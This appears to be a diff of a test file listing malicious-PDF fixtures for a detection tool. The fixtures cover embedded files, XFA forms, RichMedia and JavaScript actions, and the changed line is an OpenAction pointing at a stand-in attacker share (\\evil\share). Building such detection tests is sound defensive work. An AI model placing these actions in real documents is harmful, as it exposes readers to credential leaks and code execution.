@@ -132,7 +132,7 @@ attack("PDF with files inside", "pdf", "pdf_action", lambda: pdf_with(b"/Names <
 attack("PDF form of XML", "pdf", "pdf_action", lambda: pdf_with(b"/AcroForm << /XFA 9 0 R >>"))
 attack("PDF that plays", "pdf", "pdf_action", lambda: pdf_with(b"/Annots [<< /Subtype /RichMedia >>]"))
 attack(
-    "PDF that opens others", "pdf", "pdf_action", lambda: pdf_with(b"/OpenAction << /S /GoToR /F (\\\\evil\\share) >>")
+    "PDF that opens others", "pdf", "pdf_action", lambda: pdf_with(b"/OpenAction << /S /GoToE /F (\\\\evil\\share) >>")
 )
 attack("PDF that packs what it runs", "pdf", "pdf_action",
        lambda: m.pdf_packed(b"2 0 << /Type /Page /AA << /S /JavaScript /JS (x) >> >>"))  # fmt: skip
